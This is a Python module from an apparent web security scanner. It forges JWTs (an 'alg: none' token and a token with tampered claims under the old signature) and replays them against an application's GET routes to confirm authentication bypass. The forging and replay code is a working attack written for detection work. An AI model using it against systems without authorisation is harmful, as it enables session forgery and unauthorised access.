"""JWT: a token the app issued (seen in a response or given with --as) is re-sent forged:
`alg: none` with no signature, and claims changed under the old signature. Either being
accepted where a junk token is refused confirms it; the forged claims carry a unique canary."""

from __future__ import annotations

import base64
import json
import re

from auditor.probe.checks.canary import same, token
from auditor.probe.interface import Confirmation, Exchange, ProbeContext, Route, Sender, SiteCheck

JWT = re.compile(r"\beyJ[\w-]+\.eyJ[\w-]+\.[\w-]*")
MAX_ROUTES = 10


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _claims(tok: str) -> dict[str, object] | None:
    try:
        part = tok.split(".")[1]
        data = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (ValueError, IndexError):
        return None
    return data if isinstance(data, dict) else None


def forged(tok: str, canary: str) -> list[tuple[str, str]]:
    """(how, token) pairs: alg none, and claims changed under the original signature."""
    claims = _claims(tok)
    if claims is None:
        return []
    changed = _b64(json.dumps({**claims, "auditor": canary}, separators=(",", ":")).encode())
    header, _, sig = tok.split(".")
    none_header = _b64(json.dumps({"alg": "none", "typ": "JWT"}).encode())
    return [("alg none", f"{none_header}.{changed}."), ("tampered claims, old signature", f"{header}.{changed}.{sig}")]


def _found_token(history: list[Exchange], identity: dict[str, str]) -> tuple[str, str] | None:
    """(where, token): where is 'bearer' or a cookie name."""
    for name, value in identity.items():
        if m := JWT.search(value):
            return ("bearer" if name.lower() == "authorization" else name, m.group(0))
    for ex in history:
        for v in ex.header_values("set-cookie"):
            if m := JWT.search(v):
                return (v.split("=", 1)[0].strip(), m.group(0))
        if m := JWT.search(ex.text):
            return ("bearer", m.group(0))
    return None


class JwtForgery(SiteCheck):
    name = "jwt"

    def run(self, sender: Sender, ctx: ProbeContext, routes: list[Route]) -> list[Confirmation]:
        found = _found_token(getattr(sender, "token_responses", []), getattr(sender, "identity", {}))
        if found is None:
            return []
        where, tok = found

        def send(path: str, value: str) -> Exchange:
            if where == "bearer":
                return sender.request("GET", path, headers={"Authorization": f"Bearer {value}"})
            return sender.request("GET", path, headers={"Cookie": f"{where}={value}"})

        gets = [r for r in routes if r.method == "GET" and "{" not in r.path]
        gets.sort(key=lambda r: not any(p.location in ("header", "cookie") for p in r.params))
        candidates = [r.path for r in gets][:MAX_ROUTES]
        for path in candidates:
            good = send(path, tok)
            anonymous = sender.request("GET", path)
            if good.status != 200 or same(good, anonymous, []):
                continue  # the route does not depend on the token
            for how, forgery in forged(tok, token()):
                canary = forgery.split(".")[1]
                ex = send(path, forgery)
                if ex.status == 200 and same(ex, good, []):
                    return [Confirmation("weak-authentication", self.name,
                                         f"JWT accepted with a forged token ({how})", ex, canary,
                                         endpoint=path, method="GET", severity="critical")]
        return []
